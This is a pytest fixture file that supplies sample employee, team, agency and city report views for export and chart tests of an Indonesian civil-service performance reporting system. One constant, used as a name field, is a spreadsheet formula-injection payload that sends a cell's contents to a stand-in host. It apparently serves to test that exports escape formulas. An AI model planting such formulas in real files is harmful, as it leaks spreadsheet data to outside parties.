"""Views as their use cases answer them (each checked against its OpenAPI model in test_exports), for
the export and chart unit tests, and their empty counterparts: the ``views`` fixture."""

from __future__ import annotations

import datetime as dt
from collections.abc import Callable
from typing import Any

import pytest

from reporting.domain import summaries
from reporting.domain.exports import ViewKind

NIP = "199001012015011001"
APPRAISER = "198001012005011002"
EVIL = '=HYPERLINK("http://x.example/?q="&A1,"klik")'
FRESH = {
    "newest_event_at": dt.datetime(2026, 4, 20, 8, tzinfo=dt.UTC),
    "applied_at": dt.datetime(2026, 4, 20, 8, 1, tzinfo=dt.UTC),
    "stale_summaries": 0,
    "lag_records": 0,
    "lag_checked_at": None,
    "generation": 1,
}


def counts(**values: int) -> dict[str, int]:
    return summaries.predikat_counts(()) | values


def employee(empty: bool = False) -> dict[str, Any]:
    indicator = {
        "rhk": "Cakupan layanan",
        "indicator_id": "i1",
        "indicator": "Cakupan imunisasi dasar lengkap",
        "target": "95",
        "realisation": "62",
        "unit": "%",
        "achievement_pct": 65.3,
        "rating": "di_bawah_ekspektasi",
    }
    history = [
        {
            "appraisal_id": "a1",
            "period": "2026-Q1",
            "annual": False,
            "revision": 2,
            "predikat": "butuh_perbaikan",
            "hasil_kerja": "di_bawah_ekspektasi",
            "perilaku_kerja": "sesuai_ekspektasi",
            "due": "2026-04-15",
            "late": True,
            "indicators": [indicator, indicator | {"indicator_id": "i2", "indicator": EVIL, "achievement_pct": -5.0}],
        },
        {
            "appraisal_id": "a0",
            "period": "2025",
            "annual": True,
            "revision": 1,
            "predikat": "baik",
            "hasil_kerja": "sesuai_ekspektasi",
            "perilaku_kerja": "sesuai_ekspektasi",
            "due": None,
            "late": None,
            "indicators": [],
        },
    ]
    plan = {
        "appraisal_id": "a1",
        "period": "2026-Q1",
        "status": "active",
        "cause": "kompetensi",
        "actions": ["pelatihan", "pendampingan"],
        "due_on": "2026-07-31",
        "escalated": False,
    }
    recommendation = {
        "recommendation_id": "r1",
        "reason": "low_score",
        "source_appraisal_id": "a1",
        "due_by": "2026-09-30",
        "programs": [
            {"program_code": "PKS-01", "title": "Pelayanan", "jp": 12.0},
            {"program_code": "X", "title": None, "jp": 4.5},
        ],
    }
    trainings = [
        {
            "enrolment_id": "e1",
            "program_code": "PKS-01",
            "title": "Pelayanan",
            "status": "completed",
            "jp": 12.0,
            "starts_on": "2026-03-02",
            "ends_on": "2026-03-04",
            "completed_on": "2026-03-04",
            "external_learning": False,
        },
        {
            "enrolment_id": "e2",
            "program_code": "PKS-02",
            "title": None,
            "status": "enrolled",
            "jp": None,
            "starts_on": None,
            "ends_on": None,
            "completed_on": None,
            "external_learning": None,
        },
    ]
    return {
        "nip": NIP,
        "name": EVIL,
        "opd_code": "DINKES",
        "unit_code": "PKM-1",
        "position_title": "Perawat",
        "employee_type": "PNS",
        "pejabat_penilai_nip": APPRAISER,
        "year": 2026,
        "history": [] if empty else history,
        "development_plans": [] if empty else [plan],
        "recommendations": [] if empty else [recommendation],
        "trainings": [] if empty else trainings,
        "jp": {"year": 2026, "earned": 0.0 if empty else 12.0, "minimum": 20, "cap": None, "met": False},
        "freshness": FRESH,
    }


def team(empty: bool = False) -> dict[str, Any]:
    members = [
        {
            "nip": NIP,
            "name": EVIL,
            "unit_code": "PKM-1",
            "position_title": "Perawat",
            "skp_status": "approved",
            "skp_approved": True,
            "skp_approved_late": True,
            "evaluations": {"2026-Q1": "baik", "2026-Q2": "sangat_baik"},
            "predikat_so_far": "sangat_baik",
            "open_plans": 0,
            "pending_objections": 1,
        },
        {
            "nip": "199001012015011003",
            "name": "Siti",
            "unit_code": None,
            "position_title": None,
            "skp_status": "not_submitted",
            "skp_approved": False,
            "skp_approved_late": False,
            "evaluations": {},
            "predikat_so_far": None,
            "open_plans": 2,
            "pending_objections": 0,
        },
    ]
    periods = [
        {"period": "2026-Q1", "due": "2026-04-15", "done": 1, "total": 2},
        {"period": "2026-Q2", "due": None, "done": 1, "total": 2},
    ]
    return {
        "pejabat_penilai_nip": APPRAISER,
        "year": 2026,
        "size": 0 if empty else 2,
        "periods": [] if empty else periods,
        "skp": {"approved": 1, "submitted": 0, "returned": 0, "not_submitted": 1},
        "open_plans": 2,
        "pending_objections": 1,
        "members": [] if empty else members,
        "freshness": FRESH,
    }


def period(name: str, c: dict[str, int], org: str | None) -> dict[str, Any]:
    return {
        "period": name,
        "total": sum(c.values()),
        "counts": c,
        "with_due": 3,
        "on_time": 2,
        "late": 1,
        "low": 1,
        "escalated": 0,
        "low_by_unit": [{"unit_code": "PKM-2", "low": 1}, {"unit_code": "-", "low": 0}],
        "low_by_indicator": [{"indicator": "Cakupan imunisasi", "rhk": "Layanan", "low": 1}],
        "low_by_behaviour": [{"value": "kolaboratif", "low": 1}],
        "computed_at": dt.datetime(2026, 4, 20, tzinfo=dt.UTC),
        "curve": summaries.curve(org, c),
    }


def adoption(opd: str, score: float | None) -> dict[str, Any]:
    return {
        "opd_code": opd,
        "employees": 3,
        "skp_approved_on_time": 1,
        "evaluations_with_due": 2,
        "evaluations_on_time": 1,
        "inbox_delivered": 4,
        "inbox_read": 2,
        "skp_on_time_share": 0.3333,
        "evaluations_on_time_share": 0.5,
        "inbox_read_share": 0.5,
        "score": score,
    }


def opd(empty: bool = False, org: str | None = "baik") -> dict[str, Any]:
    periods = [
        period("2026-Q1", counts(sangat_baik=1, baik=2), org),
        period("2026-Q2", counts(baik=1, butuh_perbaikan=1), org),
    ]
    return {
        "opd_code": "DINKES",
        "year": 2026,
        "organisation_predikat": None if empty else org,
        "year_closed": False,
        "periods": [] if empty else periods,
        "people": {"employees": 0 if empty else 3, "pns": 2, "pppk": 1},
        "skp": None
        if empty
        else {
            "employees": 3,
            "approved": 2,
            "approved_on_time": 1,
            "approved_on_time_share": 0.3333,
            "waiting": 0,
            "returned": 1,
            "not_submitted": 0,
        },
        "jp": None
        if empty
        else {
            "minimum_jp": 20,
            "pppk_cap_jp": 24,
            "pns": 2,
            "pns_met": 1,
            "pns_met_share": 0.5,
            "pppk": 1,
            "pppk_within_cap": 0,
            "pppk_with_training": 1,
        },
        "inbox": None if empty else {"delivered": 4, "read": 2, "read_share": 0.5, "failed": 1},
        "cases": {"plans_open": 1, "plans_awaiting_input": 0, "plans_escalated": 0, "objections_pending": 2},
        "adoption": adoption("DINKES", None if empty else 0.4444),
        "freshness": FRESH,
    }


def city(empty: bool = False) -> dict[str, Any]:
    effect = {
        "key": "PKS-01",
        "completed": 4,
        "with_later_result": 3,
        "improved": 2,
        "unchanged": 1,
        "worsened": 0,
        "improvement_rate": 0.6667,
    }
    opd_row = {
        "opd_code": "DINKES",
        "organisation_predikat": "baik",
        "employees": 3,
        "latest_period": "2026-Q2",
        "latest_counts": counts(baik=1, butuh_perbaikan=1),
        "latest_total": 2,
        "curve_violations": 0,
        "low": 2,
        "jp_pns_met_share": 0.5,
        "objections_pending": 2,
        "plans_open": 1,
    }
    no_data = opd_row | {
        "opd_code": "DISDIK",
        "organisation_predikat": None,
        "latest_period": None,
        "latest_counts": counts(),
        "latest_total": 0,
        "jp_pns_met_share": None,
    }
    return {
        "year": 2026,
        "opds": [] if empty else [opd_row, no_data],
        "trend": []
        if empty
        else [
            {"period": "2026-Q1", "total": 3, "counts": counts(sangat_baik=1, baik=2), "low": 0, "escalated": 0},
            {"period": "2026-Q2", "total": 2, "counts": counts(baik=1, butuh_perbaikan=1), "low": 1, "escalated": 1},
        ],
        "escalations": {
            "low_escalated": 1,
            "plans_escalated": 0,
            "by_opd": [] if empty else [{"opd_code": "DINKES", "low_escalated": 1, "plans_escalated": 0}],
        },
        "effectiveness": {
            "by_programme": [] if empty else [effect],
            "by_need_kind": [] if empty else [effect | {"key": "low_score", "improvement_rate": None}],
        },
        "adoption": []
        if empty
        else summaries.ranked([adoption("DINKES", 0.4444), adoption("DISDIK", None), adoption("BAPPEDA", 0.9)]),
        "freshness": FRESH,
    }


Sample = Callable[..., dict[str, Any]]
VIEWS: dict[ViewKind, Sample] = {
    ViewKind.EMPLOYEE: employee,
    ViewKind.TEAM: team,
    ViewKind.OPD: opd,
    ViewKind.CITY: city,
}


@pytest.fixture
def views() -> dict[ViewKind, Sample]:
    """A sample view of each kind: ``views[kind]()``, ``views[kind](empty=True)``."""
    return VIEWS
